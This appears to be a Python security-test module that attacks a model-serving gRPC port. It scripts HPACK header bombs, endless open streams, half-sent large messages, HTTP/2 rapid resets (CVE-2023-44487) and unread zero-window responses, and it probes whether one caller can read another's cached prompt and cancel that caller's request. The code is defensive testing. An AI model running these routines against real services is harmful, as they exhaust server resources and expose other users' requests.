"""Attacks by callers of the public port: headers, streams, messages and resets without end."""

import contextlib
import time
import uuid
from collections.abc import Callable, Iterator
from typing import Any

import grpc

from protos.serving.v1 import serving_pb2 as pb
from protos.serving.v1 import serving_pb2_grpc
from tests.attack.frames import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_INDEXED,
    GOAWAY,
    HEADERS,
    RST_STREAM,
    Connection,
    call_headers,
    frame,
    literal,
    message,
)
from tests.attack.target import CHECK, GENERATE, WATCH, Outcome, Target

ENTRY_BYTES = 3900  # of a header table of 4096
REFERENCES = 15_000  # to that entry in one header block
READINESS_REQUEST = b"\x0a\x09readiness"  # HealthCheckRequest(service="readiness")
NUM_STREAMS, NUM_CONNECTIONS = 32_000, 32
TAKEN = "was taken"
BURST = 64  # resets sent at once
ANSWER_S = 1.5  # in which a message that is too long has been refused


def header_bombs(target: Target) -> Outcome:
    """A1: one table entry, referred to thousands of times by each of many calls."""
    first = call_headers(CHECK) + literal("x-bomb", "x" * ENTRY_BYTES, is_indexed=True)
    bomb = call_headers(CHECK) + FIRST_INDEXED * REFERENCES
    num_sent, num_calls = 0, target.share(2000)
    with Connection(target.public) as connection:
        connection.open(first, ends=True)
        while num_sent < num_calls and not connection.is_closed:
            connection.open(bomb, ends=True)
            num_sent += 1
        target.hold(connection)
        ended = " until the connection was ended" if connection.is_closed else ""
    num_mb = num_sent * len(bomb) / 1e6
    return Outcome(f"{num_sent} calls, {num_mb:.0f} MB of headers on 1 connection{ended}")


def unfinished_calls(target: Target) -> Outcome:
    """A6: Generate calls whose message never comes."""
    return _open_streams(target, target.headers(GENERATE), "Generate calls of headers only")


def watches(target: Target) -> Outcome:
    """A6: Health/Watch without end, at the public port and at that of probes."""
    return _open_streams(target, call_headers(WATCH), "Watch calls", READINESS_REQUEST)


def _open_streams(
    target: Target, headers: bytes, what: str, content: bytes | None = None
) -> Outcome:
    addresses = [target.public, target.public if content is None else target.health]
    num_streams, num_each = 0, target.share(NUM_STREAMS // NUM_CONNECTIONS)
    with contextlib.ExitStack() as stack:
        connections = [
            stack.enter_context(Connection(address))
            for address in addresses * target.share(NUM_CONNECTIONS // 2)
        ]
        for connection in connections:
            for _ in range(num_each):
                if connection.is_closed:
                    break
                stream = connection.open(headers)
                if content is not None:
                    connection.send(frame(DATA, END_STREAM, stream, message(content)))
                num_streams += 1
        target.hold(*connections)
        num_ended = sum(len(connection.answered) for connection in connections)
    return Outcome(
        f"{num_streams} {what} on {len(connections)} connections, {num_ended} of them ended"
    )


def half_sent_messages(target: Target) -> Outcome:
    """A7: messages as long as the port takes them, whose last byte never comes."""
    size = _longest_message(target)
    with contextlib.ExitStack() as stack:
        connections = [
            stack.enter_context(Connection(target.public, acks_settings=True)) for _ in range(2)
        ]
        num_bytes, num_calls = 0, target.share(60)
        for connection in connections:
            streams = [connection.open(target.headers(GENERATE)) for _ in range(num_calls)]
            num_bytes += connection.fill(streams, size, deadline_s=0.5)
        target.hold(*connections)
        num_ended = sum(len(connection.answered) for connection in connections)
    calls = f"{2 * num_calls} calls that announce {size >> 10} KiB"
    return Outcome(f"{calls}, {num_bytes / 1e6:.0f} MB sent, {num_ended} of the calls ended")


def _longest_message(target: Target) -> int:
    """Returns what a message may announce without being refused at once."""
    for exponent in range(24, 12, -1):
        with Connection(target.public) as connection:
            stream = connection.open(target.headers(GENERATE))
            connection.send(frame(DATA, 0, stream, message(length=(1 << exponent) - 100)))
            end = time.monotonic() + ANSWER_S
            while stream not in connection.answered and time.monotonic() < end:
                time.sleep(0.01)
            if stream not in connection.answered:
                return (1 << exponent) - 100
    return 1 << 12


def rapid_resets(target: Target) -> Outcome:
    """B7: calls that are reset as soon as they are opened (CVE-2023-44487)."""
    headers, num_calls, goaways = target.headers(GENERATE), 0, 0
    with contextlib.ExitStack() as stack:
        connections = [stack.enter_context(Connection(target.public)) for _ in range(2)]
        end = time.monotonic() + 3.0 * target.size
        while time.monotonic() < end and not all(c.is_closed for c in connections):
            for connection in connections:
                burst = b"".join(
                    frame(HEADERS, END_HEADERS, stream, headers)
                    + frame(DATA, END_STREAM, stream, message())
                    + frame(RST_STREAM, 0, stream, CANCEL)
                    for stream in (connection.next_stream() for _ in range(BURST))
                )
                num_calls += BURST * connection.send(burst)
        goaways = sum(connection.frames[GOAWAY] for connection in connections)
        target.hold(*connections)
    return Outcome(
        f"{num_calls} calls opened and reset on 2 connections, {goaways} of which were ended"
    )


def unread_answers(target: Target) -> Outcome:
    """B9: requests for as much as one may ask for, whose answers nobody reads."""
    request = pb.GenerateRequest(n=64, token_ids=pb.TokenIds(ids=[20, 46, 68]))
    request.stop.ignore_eos = request.output.logprobs = True
    request.output.top_logprobs = 20
    request.sampling.temperature = 1.0
    num_calls = target.share(40)
    with Connection(target.public, window=0) as connection:
        for _ in range(num_calls):
            connection.ask(target.headers(GENERATE), request.SerializeToString())
        target.hold(connection)
        num_ended = len(connection.answered)
    return Outcome(
        f"{num_calls} calls of 64 continuations with 20 log probabilities, {num_ended} refused"
    )


def others_requests(target: Target) -> Outcome:
    """A8: another caller's prompt is guessed, and its request is cancelled."""
    secret = pb.TokenIds(ids=[20, *range(30, 130)])
    asked = pb.GenerateRequest(token_ids=secret, request_id=f"order-{uuid.uuid4().hex[:8]}")
    asked.stop.max_tokens = 400
    asked.stop.ignore_eos = True
    with calling(target, 0) as owner, calling(target, 1) as other:
        answers = owner("Generate", asked)
        next(iter(answers))
        guess = pb.GenerateRequest(token_ids=secret, stop=pb.StopConditions(max_tokens=1))
        num_cached = max(answer.finish.num_cached_tokens for answer in other("Generate", guess))
        try:
            other("Cancel", pb.CancelRequest(request_id=asked.request_id))
            outcome = TAKEN
        except grpc.RpcError as error:
            outcome = f"ended {error.code().name}"
        answers.cancel()
    gained = ["tells what others sent"] * (num_cached > 0) + ["ends others"] * (outcome == TAKEN)
    sent = f"a guessed prompt tells {num_cached} cached tokens; Cancel of another's id {outcome}"
    return Outcome(sent, " and ".join(gained))


@contextlib.contextmanager
def calling(target: Target, caller: int) -> Iterator[Callable[[str, Any], Any]]:
    """Yields a function that calls a method as one of the callers does."""
    metadata = [("authorization", f"Bearer {token}") for token in target.tokens[caller:][:1]]
    options = [("grpc.use_local_subchannel_pool", 1)]
    with grpc.insecure_channel(target.public, options) as channel:
        stub = serving_pb2_grpc.GenerationServiceStub(channel)
        yield lambda method, request: getattr(stub, method)(request, metadata=metadata, timeout=10)
